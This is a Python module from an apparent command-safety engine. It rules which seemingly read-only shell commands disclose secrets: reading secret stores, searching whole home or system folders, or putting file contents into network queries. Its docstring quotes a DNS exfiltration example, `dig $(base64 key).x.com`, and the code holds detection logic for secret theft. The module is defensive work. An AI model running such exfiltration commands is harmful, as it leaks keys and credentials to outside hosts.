"""What a command that only reads would give away: a store of secrets on the screen, a file's text in a network name.

The rules of the programs know what their options do. Which file they read matters for all alike, and so does what the
words hold that a network program asks for: `dig $(base64 key).x.com` sends the key.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

from cloud_assist.command.rules.engine import paths
from cloud_assist.command.rules.engine.arguments import names
from cloud_assist.command.rules.engine.base import Call, Ruling, ruled
from cloud_assist.command.rules.engine.sending import is_near, names_secret, sends_output
from cloud_assist.command.syntax.parser import Word, walk
from cloud_assist.findings import Code
from cloud_assist.models import Risk
from cloud_assist.tools.registry import registry
from cloud_assist.tools.tool import Outside

_PRINTING_FAMILIES = frozenset(
    {"text_tools", "inspect_tools", "filters", "git", "disks", "archives", "machine", "search"}
)
_ABOUT_FILES = names(
    "ls dir vdir ll la exa eza lsd stat gstat du df tree basename dirname realpath readlink greadlink wc md5sum "
    "sha1sum sha224sum sha256sum sha384sum sha512sum shasum b2sum b3sum cksum sum getfacl lsattr namei pathchk which "
    "find gfind fd fdfind lsof fuser test ["
)
"""Programs that print names, sizes, rights and sums, and no contents."""
_ADDRESS = re.compile(r"(?:\A|=)(https?://.*)\Z", re.DOTALL | re.IGNORECASE)
_REPOSITORY = re.compile(r"(?:\A|=)(?:git::|git@|ssh://|(?:github|gitlab)\.com[/:]|bitbucket\.org[/:])")
"""What kustomize clones."""
_FINDS = names("find gfind fd fdfind")
_FEEDS = names("xargs gxargs parallel")
"""Programs whose commands get what they find, or what another command finds."""
_SEARCHES = names("grep egrep fgrep rg ag zgrep")
_WIDE = frozenset({"/", "/root", "/home", "/Users", "/etc", "/var", "/proc"})


def disclosed(call: Call, family: str, ruling: Ruling) -> Ruling | None:
    """Return what `call` gives away, which its rule takes for no worse than a change; None for nothing unusual."""
    if ruling.findings and any(found.code == Code.SENDS_DATA_OUT for found in ruling.findings):
        fed = (word for simple in walk(call.upstream) for word in simple.words)
        if any(
            paths.is_secret_store(word) or paths.is_disk(word.text.rpartition("=")[2]) for word in (*call.args, *fed)
        ):
            text = f"`{call.program}` sends secrets or a whole disk away, which cannot be undone."
            return ruled(call, Risk.DESTRUCTIVE, "disclosure.sent", text, Code.SENDS_DATA_OUT, Code.REVEALS_SECRET)
    if ruling.risk is not Risk.READ_ONLY:
        return None
    asked = _asked(call)
    if asked is not None:
        return asked
    if family not in _PRINTING_FAMILIES and not ruling.inner:
        return None
    words = _read_words(call, ruling)
    store = next((word for word in words if paths.is_secret_store(word)), None)
    if store is not None:
        text = f"`{call.program}` reads {store.raw}, which contains secrets."
        return ruled(call, Risk.SENSITIVE, "disclosure.store", text, Code.REVEALS_SECRET)
    if call.program in _SEARCHES and _searches_everything(call):
        text = f"`{call.program}` prints matches from a whole home folder or the whole system, including keys."
        return ruled(call, Risk.SENSITIVE, "disclosure.wide", text, Code.REVEALS_SECRET)
    return None


def _asked(call: Call) -> Ruling | None:
    """Return what goes out with what a program asks other machines for."""
    outside = registry().outside_of(call.program)
    if outside is Outside.ASKS:
        if any(sends_output(word) for word in call.args):
            text = f"The query of `{call.program}` contains the text of a file and leaves this machine."
            return ruled(call, Risk.MUTATING, "disclosure.sends", text, Code.SENDS_DATA_OUT)
        if any(names_secret(word) for word in call.args):
            text = f"The query of `{call.program}` contains a variable that is named like a secret."
            return ruled(call, Risk.SENSITIVE, "disclosure.variable", text, Code.SENDS_DATA_OUT)
    if outside is Outside.FETCHES and any(_is_outside(word, call.program) for word in call.args):
        text = f"`{call.program}` fetches from an external server, which receives what the address contains."
        return ruled(call, Risk.SENSITIVE, "disclosure.fetches", text)
    return None


def _is_outside(word: Word, program: str) -> bool:
    """Whether a word is the address of a machine that is neither this one nor of its network."""
    address = _ADDRESS.search(word.text)
    if address is not None:
        return not is_near(address[1])
    return program in {"kubectl", "kubecolor", "oc", "kustomize"} and _REPOSITORY.search(word.text) is not None


def _read_words(call: Call, ruling: Ruling) -> Iterable[Word]:
    """The words whose files' contents may be printed."""
    if ruling.inner:
        inside = {inner.words[0].text.rpartition("/")[2] for inner in ruling.inner if inner.words}
        about = bool(inside) and inside <= _ABOUT_FILES | {"echo", "printf"}
        if call.program in _FINDS:
            return () if about else call.args
        if call.program in _FEEDS:
            fed = () if about else tuple(word for simple in walk(call.upstream) for word in simple.words)
            return (*call.args, *fed)
        return ()
    return () if call.program in _ABOUT_FILES else call.args


_RECURSIVE = re.compile(r"-[a-zA-Z]*[rR]|--(?:dereference-)?recursive\Z")


def _searches_everything(call: Call) -> bool:
    if call.program not in {"rg", "ag"} and not any(_RECURSIVE.match(word.text) for word in call.args):
        return False
    return any(paths.is_home(word) or paths.normal(word.text) in _WIDE for word in call.args[1:])
